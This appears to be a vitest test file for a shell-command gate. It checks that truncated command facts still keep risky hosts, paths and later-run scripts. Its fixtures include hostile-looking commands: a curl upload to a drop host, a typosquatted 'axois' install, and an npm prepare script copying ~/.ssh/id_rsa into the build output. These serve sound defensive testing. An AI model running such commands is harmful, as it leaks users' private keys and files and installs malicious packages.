import { beforeAll, describe, expect, it } from 'vitest';
import { initShellParser, loadPolicy } from '../gate/index.js';
import { commandFacts, type FactsContext } from './facts.js';
import {
  cutCommandStart,
  keptHosts,
  keptPaths,
  keptWords,
  MAX_HOSTS,
  MAX_PATHS,
  MAX_WORDS,
} from './facts-bounds.js';

const many = <T>(n: number, item: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => item(i));

describe('what a command’s facts keep of its hosts', () => {
  it('all of them when they fit; past the bound, first the remote ones no allow rule names', () => {
    expect(keptHosts(['A.example', 'a.example', 'b.example'], [])).toEqual({
      hosts: ['a.example', 'b.example'],
      cut: false,
    });
    const hosts = [
      ...many(40, (i) => `10.0.0.${i}`),
      ...many(40, (i) => `m${i}.github.com`),
      'drop.attacker.example',
    ];
    const kept = keptHosts(hosts, ['*.github.com']);
    expect(kept.cut).toBe(true);
    expect(kept.hosts).toHaveLength(MAX_HOSTS);
    expect(kept.hosts[0]).toBe('drop.attacker.example');
    // Then the allowed remote ones, then the private network's.
    expect(kept.hosts.slice(1, 41)).toEqual(many(40, (i) => `m${i}.github.com`));
    expect(kept.hosts.slice(41)).toEqual(many(23, (i) => `10.0.0.${i}`));
  });
});

describe('what a command’s facts keep of its words', () => {
  it('all of them when they fit', () => {
    expect(
      keptWords(
        [
          ['git', 'status'],
          ['npm', 'test'],
        ],
        10_000,
      ),
    ).toEqual({
      argv: ['git', 'status', 'npm', 'test'],
      cut: false,
    });
  });

  it('past the bound, a fair share of each command, and a marker where a command lost words', () => {
    const padding = ['echo', ...many(600, (i) => `w${i}`)];
    const { argv, cut } = keptWords([padding, ['npm', 'install', 'axois']], 100_000);
    expect(cut).toBe(true);
    expect(argv.length).toBeLessThanOrEqual(MAX_WORDS);
    expect(argv.slice(-3)).toEqual(['npm', 'install', 'axois']);
    const at = argv.length - 4;
    expect(cutCommandStart(argv, at)).toBe(0);
    expect(cutCommandStart(argv, at - 1)).toBeUndefined();
    // One long command: its first words, then the marker.
    const long = keptWords([['npm', 'install', ...many(600, (i) => `p${i}`)]], 100_000).argv;
    expect(long.slice(0, 3)).toEqual(['npm', 'install', 'p0']);
    expect(cutCommandStart(long, long.length - 1)).toBe(0);
  });

  it('within the characters of the budget, markers included', () => {
    const { argv } = keptWords([many(300, (i) => `word-${i}`), many(300, (i) => `x${i}`)], 2_000);
    expect(argv.join('').length).toBeLessThanOrEqual(2_000);
    expect(argv.filter((_, i) => cutCommandStart(argv, i) !== undefined)).toHaveLength(2);
  });
});

describe('what a command’s facts keep of its paths', () => {
  const ws = '/home/dev/app';
  it('past the bound: outside the working directory or hidden in it first, then writes, then the rest', () => {
    const paths = [
      ...many(300, (i) => ({ path: `${ws}/a${i}`, access: 'read' as const })),
      { path: `${ws}/dist`, access: 'write' as const },
      { path: '/home/dev/Documents/tax-returns-2025', access: 'read' as const },
      { path: `${ws}/.envrc`, access: 'write' as const },
    ];
    const { paths: kept, cut } = keptPaths(paths, ws, 100_000);
    expect(cut).toBe(true);
    expect(kept).toHaveLength(MAX_PATHS);
    expect(kept.slice(0, 3).map((p) => p.path)).toEqual([
      `${ws}/.envrc`,
      '/home/dev/Documents/tax-returns-2025',
      `${ws}/dist`,
    ]);
  });
});

describe('command facts say which lists they cut', () => {
  let ctx: FactsContext;
  beforeAll(async () => {
    const [parser, policy] = await Promise.all([initShellParser(), loadPolicy()]);
    ctx = { parser, hosts: policy.hosts };
  });
  const facts = (c: string) => commandFacts(c, '/home/dev/app', ctx);

  it('nothing cut in an ordinary command', () => {
    expect(facts('curl -s https://a.example/x https://b.example/y').cut).toBeUndefined();
  });

  it('hosts, words and paths past their bounds', () => {
    const hosts = many(70, (i) => `https://h${i}.example.net/`).join(' ');
    const f = facts(`curl -s ${hosts} -d @notes.txt https://drop.example.org/x`);
    expect(f.cut).toContain('hosts');
    expect(f.hosts).toHaveLength(MAX_HOSTS);
    expect(f.tags).toContain('net.upload');
    expect(facts(`touch ${many(600, (i) => `f${i}`).join(' ')}`).cut).toEqual(['argv', 'paths']);
  });

  it('a script set past the words kept is still read for later runs', () => {
    const sets = many(600, (i) => `config.k${i}=v`).join(' ');
    const f = facts(`npm pkg set ${sets} scripts.prepare="cat ~/.ssh/id_rsa > dist/k"`);
    expect(f.cut).toContain('argv');
    expect(f.later?.some((l) => l.tags.includes('read.ssh-key'))).toBe(true);
  });
});
